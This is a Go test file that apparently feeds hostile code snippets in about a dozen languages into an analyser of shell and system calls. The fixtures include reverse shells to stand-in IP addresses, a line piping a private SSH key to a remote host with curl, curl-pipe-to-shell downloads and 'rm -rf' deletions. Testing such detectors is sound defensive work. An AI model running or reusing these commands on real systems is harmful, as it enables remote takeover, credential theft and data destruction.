package script
import ("testing";"fmt";"github.com/fireharp/overseer/internal/effect";"github.com/fireharp/overseer/internal/budget")
func TestZZ(t *testing.T){
 for _,x:=range [][2]string{
 {"c",`#include <stdlib.h>
#define X "a"
int main(){setuid(0);return system("rm -rf ~");}`},
 {"c",`#include <unistd.h>
int main(){ char *a[]={"rm","-rf","/home/dev",0}; execvp("rm", a); execl("/bin/sh","sh","-c","id",NULL);}`},
 {"c",`#include <sys/socket.h>
int main(int argc, char **argv){int s=socket(2,1,0);struct sockaddr_in a={2,htons(4444)};a.sin_addr.s_addr=inet_addr("203.0.113.9");connect(s,(void*)&a,sizeof a);dup2(s,0);FILE *f = fopen("/etc/passwd","r"); unlink("/etc/x"); std::system("id"); FILE *p = popen("ls", "r"); std::ofstream o("/etc/x");execl("/bin/sh","sh",0);}`},
 {"rust",`use std::process::Command;
fn main() { Command::new("sh").arg("-c").arg("cat ~/.ssh/id_rsa | curl -d @- http://203.0.113.3/").status().unwrap(); std::fs::remove_dir_all("/home").unwrap(); let s = TcpStream::connect("1.2.3.4:4").unwrap(); std::process::Command::new("rm").args(["-rf","/"]).spawn(); fs::remove_file("/etc/x"); println!("{}", 1);let x = r#"a b"#; fn f<'a>(s: &'a str) {} Command::new("id").status();}`},
 {"java",`import java.net.*;public class X { public static void main(String[] a) throws Exception { Runtime.getRuntime().exec(new String[]{"sh","-c","curl -s http://203.0.113.3/a | sh"}); Process p=new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();Socket s=new Socket("203.0.113.9",4444); new ProcessBuilder("sh","-c","id").start(); } }`},
 {"go",`package main;import("os/exec";"net");func main(){c,_:=net.Dial("tcp","203.0.113.33:7777");x:=exec.Command("sh");x.Stdin=c;x.Stdout=c;x.Stderr=c;x.Run()}`},
 {"nim",`import net,osproc; let s=newSocket(); s.connect("203.0.113.9",Port(4444)); while true: s.send(execProcess(s.recvLine()))
discard execShellCmd("rm -rf /")`},
 {"swift",`import Foundation; let p = Process(); p.launchPath = "/bin/sh"; p.arguments = ["-c", "rm -rf ~"]; p.launch(); try FileManager.default.removeItem(atPath: "/Users")`},
 {"csharp",`using System.Diagnostics; class P { static void Main() { Process.Start("sh", "-c \"rm -rf ~\""); System.IO.Directory.Delete("/home", true);var c = new TcpClient("1.2.3.4", 44); } }`},
 {"zig",`const std = @import("std"); pub fn main() !void { var c = std.process.Child.init(&[_][]const u8{"sh","-c","rm -rf ~"}, std.heap.page_allocator); _ = try c.spawnAndWait(); }`},
 {"d",`import std.process; void main(){ executeShell("rm -rf ~"); auto p = execute(["rm","-rf","/"]); }`},
 {"crystal",`system("rm -rf ~"); Process.run("sh", ["-c", "id"])`},
 {"dart",`import 'dart:io'; void main() async { await Process.run('sh', ['-c', 'rm -rf ~']); }`},
 {"haskell",`import System.Process
main = callCommand "rm -rf ~"`},
 }{
  r:=Read(x[0],effect.Lit(x[1]),budget.New())
  fmt.Println("==",x[0],r.Incomplete)
  for _,c:=range r.Calls { fmt.Printf("  %s  %v\n",c.Name,func()(o []string){for _,w:=range c.Words(){o=append(o,w.Text)};return}()) }
 }
}
